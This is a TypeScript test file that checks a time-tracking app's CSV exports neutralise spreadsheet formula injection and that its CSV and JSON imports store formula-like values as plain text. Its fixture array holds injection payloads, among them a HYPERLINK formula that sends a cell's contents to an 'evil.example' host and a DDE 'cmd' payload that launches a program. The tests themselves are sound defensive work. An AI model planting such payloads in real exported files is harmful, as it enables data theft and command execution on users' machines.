// Spreadsheet formula injection: exported CSV cells that a spreadsheet would run are neutralised
// by default (raw values on request, for exact round trips); imported values are stored as text,
// never evaluated.
import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import type { Core } from '../../src/main/core/core';
import { FORMULA_START } from '../../src/shared/csv/formulaGuard';
import { openTempCore, unwrap } from '../helpers/tempCore';

const T0 = Date.parse('2026-03-23T09:00:00+01:00');
const WEEK = { from: Date.parse('2026-03-23T00:00:00+01:00'), to: Date.parse('2026-03-30T00:00:00+02:00') };
const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

let core: Core;
afterEach(() => core?.close());
const call = async <T>(channel: string, input?: unknown) => unwrap((await core.dispatch(channel, input)) as never) as T;

async function seed(): Promise<void> {
  const cat = await call<{ id: number }>('audit.categories.create', { name: '=1+1 category', color: '#336699', mode: 'deep' });
  for (const [i, text] of HOSTILE.entries()) {
    await call('audit.entries.create', { start: T0 + i * 3_600_000, end: T0 + i * 3_600_000 + 600_000, categoryId: cat.id, note: text });
    await call('audit.interruptions.log', { channel: 'chat', at: T0 + i * 3_600_000 + 60_000, note: text, who: '@boss' });
  }
}

/** Every note as stored, entries and interruptions. */
const storedNotes = () => (core.db!.prepare('SELECT note FROM time_entry UNION ALL SELECT note FROM interruption').pluck().all() as string[]);

const cells = (content: string, delimiter: string) => {
  const parsed = Papa.parse<string[]>(content.slice(1), { delimiter, skipEmptyLines: true, newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
};

describe('CSV exports and formula injection', () => {
  it.each([['en', ','], ['fr', ';']] as const)('the audit CSV (%s) neutralises every cell a spreadsheet would run, by default', async (language, delimiter) => {
    core = openTempCore();
    await seed();
    const { content } = await call<{ content: string }>('audit.export.csv', { ...WEEK, language });
    const rows = cells(content, delimiter);
    for (const row of rows) for (const cell of row) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
    // Notes are stored trimmed (the contract trims free text): each comes back with a leading '.
    const notes = rows.slice(1).map((r) => r[13]);
    expect(notes.sort()).toEqual(storedNotes().map((n) => `'${n}`).sort());
    expect(rows.some((r) => r[12] === "'@boss")).toBe(true);
    expect(rows.some((r) => r[6] === "'=1+1 category")).toBe(true);
  });

  it('raw values keep every cell exactly as written, for an exact round trip', async () => {
    core = openTempCore();
    await seed();
    const { content } = await call<{ content: string }>('audit.export.csv', { ...WEEK, language: 'en', values: 'raw' });
    const rows = cells(content, ',');
    expect(rows.slice(1).map((r) => r[13]).sort()).toEqual(storedNotes().sort());
    expect(rows.some((r) => r[12] === '@boss')).toBe(true);
    expect(await core.dispatch('audit.export.csv', { ...WEEK, language: 'en', values: 'formulas' })).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
  });
});

describe('imports store values as text, never evaluated', () => {
  it('a time export whose descriptions look like formulas is stored word for word', async () => {
    core = openTempCore();
    const header = 'User,Email,Client,Project,Task,Description,Billable,Start date,Start time,End date,End time,Duration,Tags,Amount ()';
    const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const lines = HOSTILE.map((text, i) => `Alex,alex@example.com,,Content,,${quote(text)},No,2026-03-2${3 + (i % 5)},0${i}:00:00,2026-03-2${3 + (i % 5)},0${i}:30:00,00:30:00,,`);
    const base64 = Buffer.from([header, ...lines].join('\n')).toString('base64');
    const preview = await call<{ importId: string; errors: unknown[]; rowCount: number }>('audit.import.preview', { base64, fileName: 'toggl.csv', tz: 'Europe/Paris' });
    expect(preview.rowCount).toBe(HOSTILE.length);
    const [cat] = await call<{ id: number }[]>('audit.categories.list');
    await call('audit.import.commit', { importId: preview.importId, mapping: { by: 'project', map: {}, fallbackCategoryId: cat.id } });
    const stored = core.db!.prepare("SELECT note, typeof(note) AS type FROM time_entry WHERE source = 'import'").all() as { note: string; type: string }[];
    expect(stored.map((s) => s.type)).toEqual(HOSTILE.map(() => 'text'));
    // Descriptions keep their text, trimmed as every note is.
    expect(stored.map((s) => s.note).sort()).toEqual(HOSTILE.map((h) => h.trim()).sort());
  });

  it('a JSON import stores formula-like strings as text', async () => {
    core = openTempCore();
    for (const [i] of HOSTILE.entries()) await call('audit.interruptions.log', { channel: 'chat', at: T0 + i * 60_000 });
    const exported = await call<{ tables: Record<string, Record<string, unknown>[]> }>('data.export');
    const interruption = exported.tables.interruption.map((row, i) => ({ ...row, note: HOSTILE[i], who: '+33 6 12 34 56 78' }));
    const file = { ...exported, tables: { ...exported.tables, interruption } };
    const r = await core.dispatch('data.import', { json: JSON.stringify(file) });
    expect(r, JSON.stringify(r)).toMatchObject({ ok: true });
    const rows = core.db!.prepare('SELECT note, who, typeof(note) t FROM interruption ORDER BY id').all() as { note: string; who: string; t: string }[];
    expect(rows.map((x) => x.note)).toEqual(HOSTILE);
    expect(rows.every((x) => x.t === 'text' && x.who === '+33 6 12 34 56 78')).toBe(true);
  });
});
